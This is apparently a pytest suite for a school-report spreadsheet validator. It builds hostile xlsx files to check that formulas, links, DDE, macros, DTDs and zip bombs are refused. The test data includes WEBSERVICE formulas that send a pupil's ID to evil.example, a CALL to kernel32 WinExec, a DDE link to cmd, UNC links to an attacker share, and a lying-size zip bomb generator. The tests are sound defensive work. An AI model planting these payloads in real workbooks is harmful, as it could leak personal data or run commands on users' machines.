"""Hostile and broken input (issue 12): each repro is built from the real sample book by unzipping it, editing the XML and
zipping it again, then run through the real commands (validate, submit, verify) as a clerk or an attacker would.

Formula detection parses XML as XML: comments, CDATA and namespace prefixes neither hide a formula nor invent one; every
formula outside the template's own 月报汇总 formulas is F013 on whatever sheet it is; links, names, DDE and macros are
S006/S007; the stamp's hash covers them all, so adding one after stamping breaks ``verify`` (R003)."""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

from baoxue import model, stamp
from baoxue.policy import DEFAULT as POLICY
from baoxue.reader import _sheet_paths, read_workbook
from baoxue.submit import submit_files
from baoxue.validators import validate_file

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "workbooks" / "示例_学校月报_正常.xlsx"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ---------------------------------------------------------------------------------------------- building repro files
def part_of(path: Path, sheet: str) -> str:
    with zipfile.ZipFile(path) as zf:
        return _sheet_paths(zf.read)[sheet]


def rezip(src: Path, dst: Path, edits: dict[str, callable] | None = None, add: dict[str, bytes] | None = None) -> Path:
    """``src`` unzipped, members rewritten (``edits[name](text) -> text``) and added, zipped again as ``dst``."""
    edits, add = edits or {}, add or {}
    with zipfile.ZipFile(src) as zin:
        items = [(i.filename, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in items:
            if name in edits:
                data = edits[name](data.decode("utf-8")).encode("utf-8")
            zout.writestr(name, data)
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def replace_cell(ref: str, new: str):
    """An edit putting ``new`` (the whole <c> element) in place of cell ``ref`` (which the sample has)."""
    def edit(xml: str) -> str:
        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', lambda _m: new, xml, count=1, flags=re.S)
        assert n == 1, ref
        return xml
    return edit


def insert_before(marker: str, text: str):
    def edit(xml: str) -> str:
        assert marker in xml, marker
        return xml.replace(marker, text + marker, 1)
    return edit


def book_with(tmp_path: Path, sheet: str, ref: str, cell: str, src: Path = SAMPLE, name: str = "book.xlsx") -> Path:
    return rezip(src, tmp_path / name, {part_of(src, sheet): replace_cell(ref, cell)})


def findings_of(path: Path, rule: str | None = None):
    """(rule, sheet, row, column) of the findings the sample itself does not have (it has one D003 warning)."""
    _, found = validate_file(path, POLICY)
    got = [(f.rule, f.sheet, f.row, f.column) for f in found if rule is None or f.rule == rule]
    return [f for f in got if f not in _sample_findings()]


def _sample_findings() -> list[tuple]:
    if not _SAMPLE_FINDINGS:
        _, found = validate_file(SAMPLE, POLICY)
        _SAMPLE_FINDINGS.extend((f.rule, f.sheet, f.row, f.column) for f in found)
    return _SAMPLE_FINDINGS


_SAMPLE_FINDINGS: list[tuple] = []


COMMENTED = ('<c r="B4" t="str"><!-- <c r="ZZ9"> --><f>HYPERLINK("http://evil.example/","秦宁航")</f>'
             '<v>秦宁航</v></c>')
PREFIXED = (f'<c r="B4" t="str"><x:f xmlns:x="{MAIN_NS}">HYPERLINK("http://evil.example/","秦宁航")</x:f>'
            '<v>秦宁航</v></c>')
CDATA = '<c r="B4" t="str"><![CDATA[ ]]><f><![CDATA[HYPERLINK("http://evil.example/","秦宁航")]]></f><v>秦宁航</v></c>'


# ---------------------------------------------------------------------------------------------- item 1: F013 bypasses
def test_the_sample_has_no_error_to_start_with():
    _, found = validate_file(SAMPLE, POLICY)
    assert found and not any(f.is_error for f in found)


@pytest.mark.parametrize("cell", [COMMENTED, PREFIXED, CDATA], ids=["comment", "prefix", "cdata"])
def test_a_hidden_formula_in_a_data_cell_is_f013_and_is_not_stamped(tmp_path, cell):
    path = book_with(tmp_path, "辍学", "B4", cell)
    assert findings_of(path) == [("F013", "辍学", 4, "姓名")]
    [result] = submit_files([path], tmp_path / "out", POLICY)
    assert result.exit_code == 1 and result.out_path is None


def test_a_formula_only_in_a_comment_or_cdata_is_text(tmp_path):
    cell = ('<c r="B4" t="inlineStr"><!-- <f>HYPERLINK("http://evil.example/")</f> --><is><t><![CDATA[<f>1</f>]]>'
            '</t></is></c>')
    path = book_with(tmp_path, "辍学", "B4", cell)
    assert findings_of(path, "F013") == []
    assert read_workbook(path).sheets["辍学"]["姓名"].iloc[0] == "<f>1</f>"


def test_a_formula_added_to_a_stamped_copy_breaks_the_stamp(tmp_path):
    [submitted] = submit_files([SAMPLE], tmp_path / "out", POLICY)
    assert submitted.exit_code == 0 and stamp.verify(read_workbook(submitted.out_path)).ok
    for label, sheet, ref, cell in [
            ("data", "辍学", "B4", COMMENTED),
            ("summary", "月报汇总", "C6", '<c r="C6"><!-- x --><f>WEBSERVICE("http://evil.example/")</f></c>'),
            ("codes", "代码表", "A2", '<c r="A2" t="str"><f>"男"</f><v>男</v></c>')]:
        tampered = book_with(tmp_path, sheet, ref, cell, src=submitted.out_path, name=f"{label}.xlsx")
        check = stamp.verify(read_workbook(tampered))
        assert not check.ok and "摘要不符" in check.reason_zh, label


# ---------------------------------------------------------------------------------------------- item 2: every sheet
def test_a_changed_summary_formula_is_f013_and_refused(tmp_path):
    """WEBSERVICE sends a child's ID out each time the book is recalculated."""
    path = book_with(tmp_path, "月报汇总", "C6",
                     '<c r="C6"><f>WEBSERVICE("http://evil.example/?d="&amp;\'辍学\'!$E$4)</f></c>')
    assert findings_of(path) == [("F013", "月报汇总", 6, "C6")]
    _, found = validate_file(path, POLICY)
    assert "WEBSERVICE" in next(f.message for f in found if f.rule == "F013")
    [result] = submit_files([path], tmp_path / "out", POLICY)
    assert result.exit_code == 1


def test_template_formulas_moved_to_another_cell_are_not_the_templates(tmp_path):
    with zipfile.ZipFile(SAMPLE) as zf:
        c7 = re.search(r'<f>(.*?)</f>', re.search(r'<c r="C7".*?</c>', zf.read(part_of(SAMPLE, "月报汇总")).decode())[0])[1]
    path = book_with(tmp_path, "月报汇总", "C6", f'<c r="C6"><f>{c7}</f></c>')
    assert findings_of(path) == [("F013", "月报汇总", 6, "C6")]


@pytest.mark.parametrize("sheet, ref", [("代码表", "A2"), ("校验结果", "A1"), ("封面", "A1"), ("辍学", "A2")])
def test_a_formula_on_any_sheet_is_f013(tmp_path, sheet, ref):
    path = book_with(tmp_path, sheet, ref, f'<c r="{ref}" t="str"><f>"x"</f><v>x</v></c>')
    row = int(ref[1:])
    assert findings_of(path) == [("F013", sheet, row, ref)]


def test_a_formula_on_a_sheet_the_model_does_not_know(tmp_path):
    extra = (f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1"><f>CALL("kernel32","WinExec","JCJ",'
             '"calc",0)</f></c></row></sheetData></worksheet>')
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {
        "xl/workbook.xml": insert_before("</sheets>", '<sheet name="私有" sheetId="99" state="veryHidden" r:id="rId99"/>'),
        "xl/_rels/workbook.xml.rels": insert_before("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/sheet99.xml"/>'),
        "[Content_Types].xml": insert_before("</Types>", '<Override PartName="/xl/worksheets/sheet99.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')},
        add={"xl/worksheets/sheet99.xml": extra.encode()})
    assert findings_of(path) == [("F013", "私有", 1, "A1")]


def test_the_template_formulas_survive_libreoffice_and_a_county_policy(tmp_path, lo_convert):
    """A LibreOffice re-save drops the quotes around sheet names; a county's own policy changes the numbers in the
    formulas (days, hours, visits): both are still the template's formulas."""
    resaved = lo_convert(SAMPLE, "xlsx", tmp_path / "lo")
    with zipfile.ZipFile(resaved) as zf:
        assert "'辍学'!" not in zf.read(part_of(resaved, "月报汇总")).decode()
    assert findings_of(resaved, "F013") == []
    from baoxue.policy import Policy
    from baoxue.template import build_school_workbook
    data = {**POLICY.data, "home_teaching": {**POLICY.data["home_teaching"], "hours_per_visit": 1.5,
                                            "visits_per_month": 3}}
    wb = build_school_workbook("5301230001", "2026-10", policy=Policy(data))
    wb.save(tmp_path / "county.xlsx")
    assert findings_of(tmp_path / "county.xlsx", "F013") == []


# ---------------------------------------------------------------------------------------------- names, links, macros
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_a_defined_name_that_computes_or_runs_is_s006(tmp_path):
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {"xl/workbook.xml": insert_before("</definedNames>",
                 '<definedName name="外发">WEBSERVICE("http://evil.example/")</definedName>'
                 '<definedName name="Auto_Open">\'代码表\'!$A$1</definedName>'
                 '<definedName name="外校">[1]外校!$A$1</definedName>')})
    assert findings_of(path) == [("S006", None, None, None)] * 3


def test_an_external_link_part_and_dde_are_s006(tmp_path):
    link = (f'<externalLink xmlns="{MAIN_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>').encode()
    rels = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            f'Id="rId1" Type="{REL}/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/>'
            '</Relationships>').encode()
    path = rezip(SAMPLE, tmp_path / "book.xlsx", add={"xl/externalLinks/externalLink1.xml": link,
                                                       "xl/externalLinks/_rels/externalLink1.xml.rels": rels})
    _, found = validate_file(path, POLICY)
    assert [(f.rule, "DDE" in f.message) for f in found if f.is_error] == [("S006", True)]


@pytest.mark.parametrize("target, rule", [("file:///C:/Windows/System32/cmd.exe", "S006"),
                                          (r"\\attacker\share\x.xlsx", "S006"), ("http://example.cn/", "S007")])
def test_a_hyperlink_leaving_the_workbook(tmp_path, target, rule):
    part = part_of(SAMPLE, "辍学")
    rels_name = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    rels = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            f'Id="rId7" Type="{REL}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>').encode()
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {part: insert_before(
        "<pageMargins", f'<hyperlinks><hyperlink ref="B4" r:id="rId7" xmlns:r="{REL}"/></hyperlinks>')},
        add={rels_name: rels})
    assert findings_of(path) == [(rule, "辍学", 4, "B4")]


def test_macro_parts_are_s006(tmp_path):
    path = rezip(SAMPLE, tmp_path / "book.xlsx", add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    assert findings_of(path) == [("S006", None, None, None)]


@pytest.mark.parametrize("member", ["sheet", "xl/workbook.xml", "docProps/custom.xml"])
def test_a_dtd_in_any_part_is_refused(tmp_path, member):
    """Entity tricks start with a DTD; no spreadsheet client writes one."""
    name = part_of(SAMPLE, "辍学") if member == "sheet" else member
    dtd = '<!DOCTYPE x [<!ENTITY f "&#60;f&#62;1+1&#60;/f&#62;">]>'

    def edit(xml: str) -> str:
        return dtd + xml if not xml.startswith("<?xml") else xml.replace("?>", "?>" + dtd, 1)
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {name: edit})
    _, found = validate_file(path, POLICY)
    assert [f.rule for f in found] == ["S005"] and "DTD" in found[0].message


# ---------------------------------------------------------------------------------------------- item 4: budgets
import os
import struct
import subprocess
import sys
import tempfile
import time
import zlib

STRAY = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row>'


def run_cli(*args, timeout=120, memory_mb=3072):
    """The CLI in a subprocess under an address-space limit (a budget a broken guard would blow) and a timeout:
    (completed process, seconds). ``BAOXUE_FUZZ_REPORT`` records each run (see test_fuzz)."""
    code, stdout, stderr, took, _peak = run_limited(list(args), Path(tempfile.mkdtemp(prefix="bx-cli-")), timeout,
                                                    memory_mb)
    return subprocess.CompletedProcess(args, code, stdout, stderr), took


def run_limited(args: list, cwd: Path, timeout: float = 60, memory_mb: int = 3072):
    """(exit code, stdout, stderr, seconds, peak RSS in MB) of the CLI in a subprocess under RLIMIT_AS and a timeout."""
    import json
    import resource
    import threading
    out, err = cwd / "stdout.txt", cwd / "stderr.txt"

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (memory_mb * 1024 * 1024,) * 2)
    with open(out, "wb") as o, open(err, "wb") as e:
        started = time.monotonic()
        proc = subprocess.Popen([sys.executable, "-m", "baoxue", *map(str, args)], stdout=o, stderr=e, cwd=cwd,
                                preexec_fn=limit)
        timer = threading.Timer(timeout, proc.kill)
        timer.start()
        try:
            _pid, status, usage = os.wait4(proc.pid, 0)
        finally:
            timer.cancel()
        took = time.monotonic() - started
    code, peak = os.waitstatus_to_exitcode(status), usage.ru_maxrss / 1024
    report = os.environ.get("BAOXUE_FUZZ_REPORT")
    if report:
        with open(report, "a", encoding="utf-8") as fh:
            fh.write(json.dumps({"args": [Path(str(a)).name for a in args[:2]], "exit": code, "seconds": round(took, 2),
                                 "peak_mb": round(peak)}, ensure_ascii=False) + "\n")
    return code, out.read_text("utf-8", "replace"), err.read_text("utf-8", "replace"), took, peak


@pytest.mark.parametrize("stray", [STRAY, '<row r="199999"><c r="ALK199999"><v>1</v></c></row>'], ids=["XFD", "ALK"])
def test_update_with_a_stray_far_cell_on_the_summary_ends_with_a_message(tmp_path, stray):
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {part_of(SAMPLE, "月报汇总"): insert_before("</sheetData>", stray)})
    before = path.read_bytes()
    p, took = run_cli("update", path)
    assert p.returncode == 2 and "过大" in p.stdout + p.stderr and "Traceback" not in p.stderr, (p.stdout, p.stderr)
    assert took < 60 and path.read_bytes() == before


def test_update_of_a_book_with_a_far_too_dense_extra_sheet_ends_with_a_message(tmp_path, monkeypatch):
    from baoxue import reader
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in "ABCDEFGHIJ") + "</row>"
                   for r in range(1, 2001))
    sheet = f'<worksheet xmlns="{MAIN_NS}"><sheetData>{rows}</sheetData></worksheet>'
    path = rezip(SAMPLE, tmp_path / "book.xlsx", {
        "xl/workbook.xml": insert_before("</sheets>", '<sheet name="草稿" sheetId="99" r:id="rId99"/>'),
        "xl/_rels/workbook.xml.rels": insert_before("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/xl/worksheets/sheet99.xml"/>'),
        "[Content_Types].xml": insert_before("</Types>", '<Override PartName="/xl/worksheets/sheet99.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')},
        add={"xl/worksheets/sheet99.xml": sheet.encode()})
    from baoxue.update import update_workbook
    monkeypatch.setattr(reader, "OPENPYXL_MAX_CELLS", 20_000)   # 20,000 cells stand in for millions
    result = update_workbook(path, policy=POLICY)
    assert result.exit_code == 2 and "单元格过多" in result.message and "草稿" in result.message
    monkeypatch.undo()
    assert update_workbook(path, policy=POLICY).exit_code in (0, 1)     # within the real budget it updates


def _lying(src: Path, dst: Path, member: str, real: bytes) -> Path:
    """``src`` with ``member`` replaced by ``real`` deflated, its sizes declared as 8,000 bytes in both headers."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(real) + body.flush()
    declared, crc = 8000, zlib.crc32(real[:8000])
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != member:
                zout.writestr(info.filename, zin.read(info.filename))
        zi = zipfile.ZipInfo(member)
        zi.compress_type = zipfile.ZIP_STORED
        zout.writestr(zi, b"\0" * len(packed))           # placeholder of the right length, patched below
    data = bytearray(dst.read_bytes())
    with zipfile.ZipFile(dst) as zf:
        info = zf.getinfo(member)
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26:info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    data[start:start + len(packed)] = packed
    struct.pack_into("<HHHHIII", data, info.header_offset + 6, 0, 8, 0, 0, crc, len(packed), declared)
    central = data.find(b"PK\x01\x02", 0)
    while central >= 0:
        n = struct.unpack("<H", data[central + 28:central + 30])[0]
        if data[central + 46:central + 46 + n] == member.encode():
            struct.pack_into("<HHHHIII", data, central + 8, 0, 8, 0, 0, crc, len(packed), declared)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    dst.write_bytes(bytes(data))
    return dst


def test_a_member_whose_declared_size_lies_is_refused_cheaply(tmp_path):
    """Declared 8,000 B, real 256 MiB (in 250 KB): the check inflates no more than it was told, then refuses."""
    path = _lying(SAMPLE, tmp_path / "bomb.xlsx", "xl/styles.xml", b"<c/>" * (64 * 1024 * 1024))
    assert path.stat().st_size < 2 * 1024 * 1024
    p, took = run_cli("validate", path)
    assert p.returncode == 2 and "压缩炸弹" in p.stdout, (p.stdout, p.stderr)
    assert took < 30


def test_the_register_has_the_readers_guards_and_leaves_no_lock(tmp_path):
    from rollup_helpers import register
    reg = register(tmp_path / "名录.xlsx", [("4310000001", "城关中学", "城关镇", "初中", "城区")])
    bad = rezip(reg, tmp_path / "坏名录.xlsx", {part_of(reg, "学校名录"): insert_before("</sheetData>", STRAY)})
    (tmp_path / "inbox").mkdir()
    p, took = run_cli("rollup", tmp_path / "inbox", "--month", "2026-10", "--register", bad, "--store",
                      tmp_path / "store")
    assert p.returncode == 2 and "学校名录" in p.stderr and "过大" in p.stderr and "Traceback" not in p.stderr, p.stderr
    assert not any((tmp_path / "store").rglob("*lock*"))


# ---------------------------------------------------------------------------------------------- item 5: _x0007_
def test_excels_escaped_control_characters_update_and_carry_forward(tmp_path):
    path = book_with(tmp_path, "辍学", "J4", '<c r="J4" t="inlineStr"><is><t>城关_x0007_镇</t></is></c>')
    assert read_workbook(path).sheets["辍学"]["户籍乡镇"].iloc[0] == "城关\x07镇"
    p, _ = run_cli("update", path)
    assert p.returncode in (0, 1) and "控制字符" in p.stdout and "Traceback" not in p.stderr, (p.stdout, p.stderr)
    assert read_workbook(path).sheets["辍学"]["户籍乡镇"].iloc[0] == "城关\x07镇"      # kept, as Excel wrote it
    p, _ = run_cli("next-month", path, "--out", tmp_path / "next.xlsx")
    assert p.returncode == 0 and "控制字符" in p.stdout, (p.stdout, p.stderr)
    assert read_workbook(tmp_path / "next.xlsx").sheets["辍学"]["户籍乡镇"].iloc[0] == "城关\x07镇"


# ---------------------------------------------------------------------------------------------- item 7
@pytest.mark.parametrize("value", ["-1e12", "-5000000"])
def test_a_far_negative_date_is_a_number_reported_f003_without_a_panic(tmp_path, value):
    with zipfile.ZipFile(SAMPLE) as zf:
        style = re.search(r'<c r="O4" s="(\d+)"', zf.read(part_of(SAMPLE, "辍学")).decode())[1]   # 发现日期: a date
    path = book_with(tmp_path, "辍学", "O4", f'<c r="O4" s="{style}"><v>{value}</v></c>')
    assert findings_of(path) == [("F003", "辍学", 4, "发现日期")]
    p, _ = run_cli("validate", path)
    assert p.returncode == 1 and "panicked" not in p.stderr and "backtrace" not in p.stderr.lower(), p.stderr
    p, _ = run_cli("update", path)
    assert p.returncode == 1 and "panicked" not in p.stderr and "Traceback" not in p.stderr, p.stderr


def test_temporaries_of_a_killed_save_are_removed_by_the_next_one(tmp_path):
    """SIGKILL during update leaves .baoxue-<pid>-….xlsx behind; the next save beside it removes it."""
    book = tmp_path / "book.xlsx"
    book.write_bytes(SAMPLE.read_bytes())
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = tmp_path / f".baoxue-{dead.pid}-abcd.xlsx"
    left.write_bytes(b"half")
    old = tmp_path / ".baoxue-k2j3h4.xlsx"            # an older version's unnamed temporary
    old.write_bytes(b"half")
    os.utime(old, (time.time() - 7200,) * 2)
    live = tmp_path / f".baoxue-{os.getpid()}-live.xlsx"   # a save running now: left alone
    live.write_bytes(b"busy")
    p, _ = run_cli("update", book)
    assert p.returncode in (0, 1), p.stderr
    assert not left.exists() and not old.exists() and live.exists()
    assert sorted(q.name for q in tmp_path.iterdir() if q.name.startswith(".baoxue-")) == [live.name]


def test_update_names_a_sheet_whose_name_excel_forbids(tmp_path):
    # Excel never saves "/" or "[" in a sheet name, and openpyxl refuses to open such a book: update says which sheet
    odd = rezip(SAMPLE, tmp_path / "book.xlsx",
                {"xl/workbook.xml": lambda xml: xml.replace('name="代码表"', 'name="代码/表["')})
    before = odd.read_bytes()
    from baoxue.update import update_workbook
    result = update_workbook(odd, policy=POLICY)
    assert result.exit_code == 2
    assert "代码/表[" in result.message and "改名" in result.message and "Error" not in result.message
    assert odd.read_bytes() == before
